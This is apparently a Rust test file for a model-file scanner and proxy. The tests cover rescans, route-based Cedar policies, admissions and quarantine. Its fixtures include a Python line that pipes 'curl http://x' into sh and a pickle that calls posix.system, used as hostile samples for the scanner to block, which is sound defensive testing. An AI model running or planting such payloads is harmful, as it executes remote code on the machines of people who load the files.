//! Files that are looked at again, by what is known now: each under every name that it has, by the route by which it came, and
//! whatever one of them does.

use std::io::{BufRead as _, BufReader};

use serde_json::{Value, json};

use crate::cli::Place;
use crate::updates::hub::{Contents, Hub, sha256};
use crate::updates::{bytes_sent, serve};

const EVIL: &[u8] = b"import os\nos.system('curl http://x | sh')\n";
const PYTHON: &str = "/org/model/resolve/main/evil.py";
const TEXT: &str = "/org/model/resolve/main/evil.txt";

/// The hub has the same bytes as code and as text.
fn hub() -> Hub {
    let hub = Hub::start(Contents::default());
    for name in ["evil.py", "evil.txt"] {
        hub.contents.lock().unwrap().files.insert(format!("org/model/{name}"), EVIL.to_vec());
    }
    hub
}

fn settings(place: &Place, hub: &Hub, more: &str) {
    let hub = hub.server.url();
    let text = format!("[gates.models]\nhub = '{hub}'\nprivate_hosts = '127.0.0.1'\n{more}\n");
    place.write("lazaret.toml", &text);
}

/// What the proxy answers to each of these, in a server of its own.
fn statuses(place: &Place, targets: &[&str]) -> Vec<String> {
    let (_serving, url) = serve(place.0.path());
    let status = |target: &&str| {
        let sent = String::from_utf8_lossy(&bytes_sent(&url, target)).into_owned();
        sent.split_whitespace().nth(1).unwrap().to_owned()
    };
    targets.iter().map(status).collect()
}

/// A rule of the hospital's own that finds something in every file whose name ends so.
fn own_rule(place: &Place, severity: &str, ending: &str) {
    let rule = format!(
        "version = 1\n[[rule]]\nid = 'user.any'\nseverity = '{severity}'\nwhat = 'a file'\nwhy = 'x'\nfile = ['*.{ending}']\n"
    );
    place.write("lazaret-data/models.toml", &rule);
}

#[test]
fn a_second_look_under_one_name_clears_no_other() {
    let (place, hub) = (Place::new(), hub());
    settings(&place, &hub, "mode = 'observe'");
    assert_eq!(statuses(&place, &[PYTHON]), ["200"]);
    settings(&place, &hub, "mode = 'enforce'");
    assert_eq!(statuses(&place, &[PYTHON, TEXT]), ["403", "200"]);
    own_rule(&place, "low", "txt");
    let again = place.json(0, &["models", "rescan", "--all"]);
    let told = |file: &str| {
        let all = again["changed"].as_array().unwrap();
        all.iter().find(|one| one["file"] == file).unwrap().clone()
    };
    assert_eq!((&told("evil.py")["now"], &told("evil.txt")["now"]), (&json!("block"), &json!("allow")));
    assert_eq!(told("evil.txt")["new"], json!(["user.any"]));
    assert_eq!(statuses(&place, &[PYTHON, TEXT]), ["403", "200"]);
    // Found bad as text, it is code no more than before.
    own_rule(&place, "critical", "txt");
    assert_eq!(place.json(1, &["models", "rescan"])["would_be_held"], 1, "as code it did not pass");
    settings(&place, &hub, "mode = 'enforce'\noffline = 'true'");
    assert_eq!(statuses(&place, &[PYTHON, TEXT]), ["403", "403"]);
    // And cleared as text again: only that.
    own_rule(&place, "low", "txt");
    place.json(0, &["models", "rescan"]);
    assert_eq!(statuses(&place, &[PYTHON, TEXT]), ["403", "200"]);
    place.clear(&["ledger", "verify"]);
}

#[test]
fn a_second_look_decides_by_the_route_by_which_a_file_came() {
    let (place, hub) = (Place::new(), hub());
    hub.contents.lock().unwrap().files.insert("org/model/plain.py".to_owned(), b"ward = 7\n".to_vec());
    let plain = "/org/model/resolve/main/plain.py";
    let policy = r#"
@id("the-hub-holds-python")
@why("What the hub has was read.")
permit (principal, action == Action::"Allow", resource == Gate::"models")
when { context.route == "hub" && ["python.remote-code", "provenance.unlinked"].containsAll(context.rules) };
"#;
    place.write("lazaret-data/policies/60-own.cedar", policy);
    settings(&place, &hub, "mode = 'enforce'");
    assert_eq!(statuses(&place, &[plain]), ["200"]);
    let again = place.json(0, &["models", "rescan"]);
    assert_eq!((&again["looked_at"], &again["changed"]), (&json!(1), &json!([])));
    settings(&place, &hub, "mode = 'enforce'\noffline = 'true'");
    assert_eq!(statuses(&place, &[plain]), ["200"]);
    // A policy about the route is seen too.
    place.write("lazaret-data/policies/60-own.cedar", &policy.replace("== \"hub\"", "== \"files\""));
    let again = place.json(1, &["models", "rescan"]);
    assert_eq!(again["changed"][0]["now"], "quarantine", "{again}");
    assert_eq!(statuses(&place, &[plain]), ["403"]);
}

/// A pickle that names so many classes, each found at a place of its own.
fn names_classes(count: usize) -> Vec<u8> {
    let mut pickle = b"\x80\x02".to_vec();
    for number in 0..count {
        pickle.extend_from_slice(format!("cward{number}\nModel\n0").as_bytes());
    }
    pickle.extend_from_slice(b"N.");
    pickle
}

#[test]
fn a_file_with_very_many_findings_keeps_no_other_from_a_second_look() {
    let place = Place::new();
    let long = format!("{}.pkl", "long".repeat(40));
    let ward = place.0.path().join("ward");
    std::fs::create_dir(&ward).unwrap();
    std::fs::write(ward.join(&long), names_classes(400)).unwrap();
    std::fs::write(ward.join("few.pkl"), names_classes(1)).unwrap();
    let passed = place.run(&["models", "pass", "ward", "--name", "ward"]);
    assert!(passed.status.code() < Some(2), "{passed:?}");
    own_rule(&place, "high", "pkl");
    let again = place.json(1, &["models", "rescan"]);
    let changed = again["changed"].as_array().unwrap();
    assert_eq!((changed.len(), &again["failed"]), (2, &json!(0)), "{again}");
    assert!(changed.iter().all(|file| file["new"] == json!(["user.any"])), "{again}");
    let unchanged = place.json(1, &["models", "rescan"]);
    assert_eq!(unchanged["changed"], Value::Array(Vec::new()), "it was told and recorded");
    assert_eq!(unchanged["would_be_held"], 2);
}

#[test]
fn a_file_that_takes_too_long_is_given_up_and_the_others_are_looked_at() {
    let place = Place::new();
    let mut slow = b"\x80\x02".to_vec();
    slow.extend(b"N0".repeat(8 << 20));
    slow.extend_from_slice(b"N.");
    let ward = place.0.path().join("ward");
    std::fs::create_dir(&ward).unwrap();
    std::fs::write(ward.join("slow.pkl"), slow).unwrap();
    std::fs::write(ward.join("few.pkl"), b"\x80\x02N.").unwrap();
    place.write("lazaret.toml", "[deadlines]\nrecord = '10 min'\n");
    place.json(0, &["models", "pass", "ward", "--name", "ward"]);
    place.write("lazaret.toml", "[deadlines]\nrecord = '500 ms'\n");
    let again = place.json(1, &["models", "rescan", "--all"]);
    let now = |file: &str| {
        let all = again["changed"].as_array().unwrap();
        all.iter().find(|one| one["file"] == file).unwrap().clone()
    };
    assert_eq!(now("few.pkl")["now"], "allow", "{again}");
    assert_eq!(now("slow.pkl")["new"], json!(["limit.time"]), "{again}");
    assert_eq!(now("slow.pkl")["now"], "quarantine");
}

#[test]
fn a_dry_run_and_the_impact_go_by_every_name_of_a_file() {
    let place = Place::new();
    for name in ["evil.py", "evil.txt"] {
        std::fs::write(place.0.path().join(name), EVIL).unwrap();
    }
    place.ends(1, &["models", "pass", "evil.py", "--name", "code"]);
    place.ends(0, &["models", "pass", "evil.txt", "--name", "text"]);
    let run = place.json(1, &["models", "dry-run"]);
    assert_eq!(run["would_be_held"].as_array().unwrap().len(), 1, "{run}");
    assert_eq!((&run["files"], &run["would_be_held"][0]["file"]), (&json!(1), &json!("evil.py")));
    assert_eq!(place.json(1, &["models", "impact", &sha256(EVIL)])["verdict"], "block");
}

/// A pickle that calls `posix.system`.
const CALLS: &[u8] = b"cposix\nsystem\n(S'id'\ntR.";

/// A folder that is watched, with that pickle in it.
fn watched(mode: &str) -> Place {
    let place = Place::new();
    place.write("lazaret.toml", &format!("[gates.models]\nmode = '{mode}'\n"));
    std::fs::create_dir(place.0.path().join("in")).unwrap();
    place.write("in/m.bin", std::str::from_utf8(CALLS).unwrap());
    place
}

#[test]
fn what_passed_by_an_admission_that_is_over_is_told_of_and_passes_no_more() {
    let (place, file) = (watched("enforce"), sha256(CALLS));
    let once = &["models", "watch", "in", "--once"];
    place.clear(&["models", "admit", &file, "--by", "a", "--second", "b", "--reason", "x"]);
    place.clear(once);
    assert!(place.clear(once).contains("passed before, 0 held"));
    assert_eq!(place.json(0, &["models", "impact", &file])["lets_go"], true);
    place.clear(&["models", "revoke", &file, "--by", "a", "--reason", "x"]);
    let told = place.ends(1, &["models", "impact", &file]);
    assert!(told.contains("verdict  allow, by an admission that is over"), "{told}");
    assert!(place.ends(1, once).contains("0 crossed, 1 held"));
    assert!(place.ends(1, once).contains("passed before, 1 held"));
}

#[test]
fn what_passed_while_observing_is_held_once_that_ends_and_counts_whatever_becomes_of_other_models() {
    let place = watched("observe");
    let once = &["models", "watch", "in", "--once"];
    place.clear(once);
    assert!(place.clear(once).contains("passed before, 0 held"));
    assert_eq!(place.json(1, &["models", "rescan"])["would_be_held"], 1);
    place.ends(1, &["models", "pass", "in/m.bin", "--name", "other", "--mode", "enforce"]);
    assert_eq!(place.json(1, &["models", "rescan"])["would_be_held"], 1);
    assert!(place.ends(1, &["models", "watch", "in", "--once", "--mode", "enforce"]).contains("1 held"));
    assert_eq!(place.json(0, &["models", "rescan"])["would_be_held"], 0);
}

#[test]
fn an_alert_that_a_second_look_did_not_come_to_is_raised_by_the_next() {
    let place = Place::new();
    place.write("lazaret.toml", "[gates.models]\nmode = 'enforce'\n");
    place.write("plain.txt", "ward 7\n");
    place.clear(&["models", "pass", "plain.txt", "--name", "ward/plain"]);
    let file = sha256(b"ward 7\n");
    let alerts = |code| place.json(code, &["models", "impact", &file])["alerts"].as_array().unwrap().len();
    own_rule(&place, "critical", "txt");
    // As long as it is admitted nobody is told; the look is recorded, and finds nothing new later.
    place.clear(&["models", "admit", &file, "--by", "a", "--second", "b", "--reason", "x"]);
    place.json(0, &["models", "rescan"]);
    assert_eq!(alerts(1), 0);
    place.clear(&["models", "revoke", &file, "--by", "a", "--reason", "x"]);
    for _ in 0..2 {
        assert_eq!(place.json(1, &["models", "rescan"])["changed"], json!([]));
        assert_eq!(alerts(1), 1, "it is told once");
    }
}

#[test]
fn what_one_route_clears_is_decided_anew_by_another() {
    let (place, hub) = (Place::new(), hub());
    let (by_hub, by_server) =
        ("/org/model/resolve/main/plain.py", "/-/fetch/own/org/model/resolve/main/plain.py");
    hub.contents.lock().unwrap().files.insert("org/model/plain.py".to_owned(), b"ward = 7\n".to_vec());
    let policy = r#"
@id("the-server-holds-python")
@why("What it has was read.")
permit (principal, action == Action::"Allow", resource == Gate::"models")
when { context.route == "files" && ["python.remote-code", "provenance.unlinked"].containsAll(context.rules) };
"#;
    place.write("lazaret-data/policies/60-own.cedar", policy);
    let server = format!("mode = 'enforce'\n[gates.models.servers]\nown = '{}/'", hub.server.url());
    settings(&place, &hub, &server);
    assert_eq!(statuses(&place, &[by_hub, by_server, by_hub, by_server]), ["403", "200", "403", "200"]);
}

#[test]
fn while_a_folder_is_watched_others_have_the_ledger_between_two_looks() {
    let place = watched("enforce");
    let mut watching = std::process::Command::new(env!("CARGO_BIN_EXE_lazaret"));
    watching.args(["models", "watch", "in", "--interval", "200ms"]).current_dir(place.0.path());
    let mut watching = watching.stdout(std::process::Stdio::piped()).spawn().unwrap();
    let mut line = String::new();
    BufReader::new(watching.stdout.take().unwrap()).read_line(&mut line).unwrap();
    assert!(line.contains("1 held"), "{line}");
    let admits = ["models", "admit", &sha256(CALLS), "--by", "a", "--second", "b", "--reason", "x"];
    let began = std::time::Instant::now();
    while !place.run(&admits).status.success() {
        assert!(began.elapsed().as_secs() < 20, "the ledger stays taken");
    }
    watching.kill().unwrap();
    watching.wait().unwrap();
}
